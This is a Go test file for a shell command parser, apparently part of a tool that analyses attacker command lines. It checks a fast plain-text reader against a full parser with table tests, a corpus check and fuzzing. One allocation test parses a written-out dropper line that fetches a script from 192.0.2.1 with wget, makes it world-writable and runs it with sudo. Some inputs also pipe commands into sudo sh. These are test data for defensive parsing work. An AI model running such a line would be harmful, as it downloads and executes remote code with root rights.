package shell

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"ttp-worker/internal/corpus"
)

// parsed lists the commands of text by the parser alone, if it takes the text.
func parsed(text string) ([]Command, bool) {
	var r reader
	r.reset()
	r.depth++
	file, err := r.parse(text)
	if err != nil {
		return nil, false
	}
	r.source = text
	r.node(file)
	return r.commands, true
}

// checkPlain holds what was read as plain text against the parser.
func checkPlain(t *testing.T, text string) (plain bool) {
	t.Helper()
	var r reader
	r.reset()
	r.depth++
	if !r.plain(text) || r.broken {
		return false
	}
	want, ok := parsed(text)
	if !ok {
		t.Errorf("%q was read as plain text, the parser refuses it", text)
	}
	if diff := cmp.Diff(want, r.commands); diff != "" {
		t.Errorf("%q (-parser +plain):\n%s", text, diff)
	}
	return true
}

func TestPlain(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{
		"": true, "id": true, "ls -la /tmp": true, "cd /tmp; ls": true, "a && b || c": true, "a | b | c": true,
		"a &": true, "a & b": true, "a\n\nb\n": true, "a;": true, "'a b' \"c d\"x": true, `a\ b \; c`: true,
		"a >b 2>>c <d": true, "> x": true, "a 2>&1 >/dev/null": true, "a &>x": true, "a >& x": true, "a <&-": true,
		"find . -exec rm {} +": true, "echo '' \"\"": true, "sh -c 'id; w'": true, "echo id | sh": true,
		"sudo -u root cat x > y": true, "echo \"a\\\"b\\d\\\\\"": true, "[ -f x ] && id": true, "a b=c": true,
		"a # b": false, "a;;": false, ";a": false, "a |": false, "a && \n b": false, "a $b": true, "a \"x$b.c\" $d$e > $f": true, "$a b": false, "a $1": false, "a $IFS": false, "a $": false, "a ${b}": false, "a `b`": false,
		"(a)": false, "{ a; }": false, "{a,b}": false, "a {b,c}": false, "if": false, "time a": false, "A=b": false,
		"export a": false, "a <<b": false, "a <<<b": false, "a <(b)": false, "a |& b": false, "'a": false, `"a`: false,
		`a\`: false, "a >": false, "a > ;": false, "! a": false, "[[ a ]]": false, "a {b}>c": false, "é": false,
		"a\x01": false, "a 2<>b": true, "a >|b": true, "a 1 2>b": true, "a 2->b": true, "a; ; b": false, "a\n;b": false, "x[1]=a": false,
		"a > {b,c}": false, "function": false, "functional": true, "exports": true, "a \"\\`\\$\"": true,
	} {
		if got := checkPlain(t, text); got != want {
			t.Errorf("%q is plain: %t, want %t", text, got, want)
		}
	}
}

func TestMostLinesArePlain(t *testing.T) {
	t.Parallel()
	lines, plain := corpus.Lines(), 0
	for _, line := range lines {
		if checkPlain(t, line) {
			plain++
		}
	}
	if plain < len(lines)*2/3 {
		t.Errorf("%d of %d lines are plain", plain, len(lines))
	}
}

func FuzzPlain(f *testing.F) {
	for _, line := range corpus.Lines()[:200] {
		f.Add(line)
	}
	for _, text := range []string{"a 2>&1|b&&c", `"a\"b" \; 'c'd`, "a<b>c&>>d", "echo 'id;w' | sudo sh", "x\n\ny &"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) < maxParsed {
			checkPlain(t, text)
		}
	})
}

func TestPlainLinesAllocateNothing(t *testing.T) {
	var p Parser
	const line = `cd /tmp || cd "/var/run"; wget -q http://192.0.2.1/x.sh 2>/dev/null; chmod 777 x.sh && sudo sh x.sh &`
	p.Parse(line)
	if n := testing.AllocsPerRun(100, func() { p.Parse(line) }); n > 0 {
		t.Errorf("%v allocations", n)
	}
}
